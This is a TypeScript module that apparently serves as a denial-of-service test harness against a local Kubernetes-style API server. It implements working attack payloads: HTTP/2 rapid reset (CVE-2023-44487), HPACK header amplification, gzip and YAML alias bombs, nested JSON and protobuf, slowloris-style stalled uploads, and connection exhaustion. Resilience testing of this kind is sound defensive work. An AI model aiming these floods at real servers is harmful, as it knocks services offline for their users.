import { randomBytes } from 'node:crypto'
import https from 'node:https'
import { setTimeout as sleep } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'
import {
  fieldBlock,
  frame,
  END_HEADERS,
  END_STREAM,
  HEADERS,
  literal,
  PREFACE,
  RST_STREAM,
  type Field,
} from '../../test/support/hostile/http2-frames.js'
import { connect, type Door } from './door.js'

/** Attacks until its time is over; what it does a second is its own to say. */
export type Attack = (door: Door) => Promise<void>

const PODS = '/api/v1/namespaces/default/pods'
const MAPS = '/api/v1/namespaces/default/configmaps'
/** Bytes of a body. */
const SMALL = 2048

/** Acts at a fixed rate until the time is over, however long each takes. */
async function atRate(perSecond: number, door: Door, act: () => void): Promise<void> {
  const start = performance.now()
  for (let done = 0; performance.now() - start < door.seconds * 1000; await sleep(5)) {
    const due = ((performance.now() - start) / 1000) * perSecond
    for (; done < due; done++) act()
  }
}

interface Asked {
  readonly method?: string
  readonly path: string
  readonly headers?: Record<string, string>
  readonly body?: Buffer
  /** Milliseconds after which the client goes. */
  readonly givesUp?: number
}

function asker(door: Door): (asked: Asked) => void {
  const { port, ca, cert, key } = door
  const agent = new https.Agent({ keepAlive: true, maxSockets: 64 })
  return ({ method = 'GET', path, headers = {}, body, givesUp }) => {
    const length = body === undefined ? {} : { 'content-length': String(body.length) }
    const req = https.request({
      ...{ host: '127.0.0.1', port, ca, path, method, headers: { ...headers, ...length } },
      ...{ agent: givesUp === undefined ? agent : false },
      ...(cert === undefined ? {} : { cert, key }),
    })
    req.on('error', () => undefined)
    req.on('response', (res) => res.on('error', () => undefined).resume())
    if (givesUp !== undefined) setTimeout(() => req.destroy(), givesUp)
    req.end(body)
  }
}

function bodies(perSecond: number, headers: Record<string, string>, body: Buffer): Attack {
  return async (door) => {
    const ask = asker(door)
    await atRate(perSecond, door, () => ask({ method: 'POST', path: MAPS, headers, body }))
  }
}

const text = (part: string, end = ''): Buffer =>
  Buffer.from(part.repeat(Math.floor((SMALL - end.length) / part.length)) + end)

/** Opens so many connections, as fast as they are taken, and has each do something; they stay until the time is over. */
function held(count: number, protocol: 'http/1.1' | 'h2', begin: Buffer): Attack {
  return async (door) => {
    const until = performance.now() + door.seconds * 1000
    for (let i = 0; i < count && performance.now() < until; i++) {
      const socket = await connect(door, protocol)
      if (begin.length > 0) socket.write(begin)
    }
    await sleep(Math.max(0, until - performance.now()))
  }
}

const pseudo = (path: string): Field[] => [
  ...([
    [':method', 'GET'],
    [':scheme', 'https'],
  ] as const),
  ...([
    [':path', path],
    [':authority', 'kubernetes'],
  ] as const),
]

/** One field of 4,000 bytes in the table, and requests that name it 250 times each: a byte for each. */
async function amplify(door: Door): Promise<void> {
  const seed = Buffer.concat([
    fieldBlock(pseudo(PODS)),
    Buffer.from([0x40]),
    literal('a'),
    literal('b'.repeat(4000)),
  ])
  const named = Buffer.concat([fieldBlock(pseudo(PODS)), Buffer.alloc(250, 0x80 | 62)])
  const begin = Buffer.concat([PREFACE, frame(HEADERS, END_STREAM | END_HEADERS, 1, seed)])
  await atRate(2, door, () => {
    void connect(door, 'h2').then((socket) => {
      socket.write(begin)
      for (let id = 3; id < 100; id += 2) socket.write(frame(HEADERS, END_HEADERS, id, named))
      setTimeout(() => socket.destroy(), 5000)
    })
  })
}

/** CVE-2023-44487: streams that are opened and reset at once, over sessions that are opened again when they are ended. */
async function reset(door: Door): Promise<void> {
  const block = fieldBlock(pseudo(PODS))
  let id = 1
  let socket = await connect(door, 'h2')
  socket.write(PREFACE)
  await atRate(2000, door, () => {
    if (socket.destroyed) {
      if (id === 0) return
      id = 0
      void connect(door, 'h2').then((again) => {
        again.write(PREFACE)
        socket = again
        id = 1
      })
      return
    }
    if (id === 0) return
    socket.write(
      Buffer.concat([
        frame(HEADERS, END_STREAM | END_HEADERS, id, block),
        frame(RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8])),
      ]),
    )
    id += 2
  })
}

const stalled = Buffer.from(
  `POST ${MAPS} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n${'{'.padEnd(1000)}`,
)

export const ATTACKS: Readonly<Record<string, Attack>> = {
  'unknown tokens': async (door) => {
    const ask = asker(door)
    await atRate(200, door, () =>
      ask({ path: PODS, headers: { authorization: `Bearer ${randomBytes(32).toString('hex')}` } }),
    )
  },
  'gzip bombs': bodies(
    200,
    { 'content-type': 'application/json', 'content-encoding': 'gzip' },
    gzipSync(`{"kind":"ConfigMap","x":"${'0'.repeat(2_000_000)}"}`),
  ),
  'YAML of brackets': bodies(200, { 'content-type': 'application/yaml' }, text('{a: [', ']')),
  'YAML of aliases': bodies(
    200,
    { 'content-type': 'application/yaml' },
    Buffer.from(`a: &a [${'x,'.repeat(400)}]\nb: &b [${'*a,'.repeat(300)}]\nc: [${'*b,'.repeat(40)}]\n`),
  ),
  'YAML of comments': bodies(200, { 'content-type': 'application/yaml' }, text('#\n', 'a: b\n')),
  'JSON of brackets': bodies(200, { 'content-type': 'application/json' }, text('{"a":[')),
  'protobuf of groups': bodies(
    200,
    { 'content-type': 'application/vnd.kubernetes.protobuf' },
    Buffer.concat([
      Buffer.from('k8s\0\n\x0f\n\x02v1\x12\x09ConfigMap\x12\xe0\x0f', 'latin1'),
      Buffer.alloc(2016, 0x1b),
    ]),
  ),
  'stalled uploads': held(500, 'http/1.1', stalled),
  'amplified headers': amplify,
  'rapid resets': reset,
  'idle connections': held(1000, 'http/1.1', Buffer.alloc(0)),
  'idle sessions': held(500, 'h2', PREFACE),
  'clients that give up': async (door) => {
    const ask = asker(door)
    await atRate(100, door, () => ask({ path: '/api/v1/namespaces/hangs/pods', givesUp: 200 }))
  },
  'events for AuditSinks': async (door) => {
    const ask = asker(door)
    await atRate(200, door, () => ask({ path: PODS }))
  },
  'watches that come and go': async (door) => {
    const ask = asker(door)
    await atRate(50, door, () => ask({ path: `${PODS}?watch=1`, givesUp: 2000 }))
  },
}
